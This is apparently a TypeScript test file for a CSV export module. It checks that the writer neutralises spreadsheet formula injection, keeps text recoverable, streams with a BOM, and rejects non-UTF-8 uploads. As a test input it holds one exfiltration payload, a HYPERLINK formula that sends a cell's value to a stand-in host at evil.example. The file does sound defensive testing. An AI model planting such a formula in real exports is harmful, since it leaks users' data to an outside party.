import { buffer, text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvStream, csvText, Figure, restore, utf8Text } from './csv.ts';
import { HttpError } from './errors.ts';

const cellsOf = (csv: string) => parse(csv, { bom: true }) as string[][];
const STARTS_FORMULA = /^[=+\-@\t\r]/;

describe('the CSV writer', () => {
  it('puts a quote before a string cell that would start a spreadsheet formula, and before quotes leading to one', () => {
    const typed = [
      '=1+1',
      '+SUM(1,1)',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "'=x",
      "''+x",
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ];
    expect(cellsOf(csvText([typed]))[0]).toEqual([
      "'=1+1",
      "'+SUM(1,1)",
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      "'\r=1",
      "''=x",
      "'''+x",
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    ]);
  });

  it('leaves other text, numbers (negative ones too), booleans and server figures as they are', () => {
    const row = [
      'Silk, “Royal”',
      "'quoted",
      'a=b',
      '',
      null,
      undefined,
      -12.5,
      0,
      42,
      true,
      false,
      new Figure('-2500.00'),
    ];
    expect(csvText([row])).toBe(`"Silk, “Royal”",'quoted,a=b,,,,-12.5,0,42,true,false,-2500.00\n`);
  });

  it('writes any text so that no cell starts a formula, and restore gives the text back exactly', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n', 'a');
    const typed = fc.oneof(
      fc.string(),
      fc.array(risky, { maxLength: 6 }).map((a) => a.join('')),
    );
    fc.assert(
      fc.property(fc.array(typed, { minLength: 1, maxLength: 4 }), (row) => {
        const [written] = cellsOf(csvText([row]));
        for (const cell of written!) expect(cell).not.toMatch(STARTS_FORMULA);
        expect(written!.map(restore)).toEqual(row);
      }),
      { numRuns: 500 },
    );
  });

  it('streams objects by column with a header and a BOM under the same rule', async () => {
    async function* rows() {
      yield { name: '@home', total: -5 };
      yield { name: 'Asha', total: 10 };
    }
    // buffer(), not text(): a decoder would drop the BOM this checks for.
    const csv = (
      await buffer(csvStream(rows(), { header: true, columns: ['name', 'total'], bom: true }))
    ).toString();
    expect(csv).toBe("\uFEFFname,total\n'@home,-5\nAsha,10\n");
  });

  it('ends the stream with the error when reading the rows fails, instead of leaving the reader waiting', async () => {
    async function* rows() {
      yield ['first'];
      throw new Error('database gone');
    }
    await expect(text(csvStream(rows()))).rejects.toThrow('database gone');
  });
});

describe('reading an upload as UTF-8', () => {
  it('gives the text of UTF-8 bytes, BOM removed', () => {
    expect(utf8Text(Buffer.from('\uFEFFtitle\nSaree café 🥻\n'))).toBe('title\nSaree café 🥻\n');
  });

  it('refuses bytes that are not UTF-8 with 400 naming the first line that holds them', () => {
    const latin1 = Buffer.concat([
      Buffer.from('title\nSilk\n'),
      Buffer.from('Saree café\nCrêpe\n', 'latin1'),
    ]);
    const refused = (() => {
      try {
        utf8Text(latin1);
      } catch (err) {
        return err;
      }
    })();
    expect(refused).toBeInstanceOf(HttpError);
    expect(refused).toMatchObject({
      statusCode: 400,
      message: 'Line 3 is not UTF-8 text: save the file as CSV UTF-8',
    });
    expect(() => utf8Text(Buffer.from([0x61, 0xe9]))).toThrow('Line 1 is not UTF-8 text');
  });
});
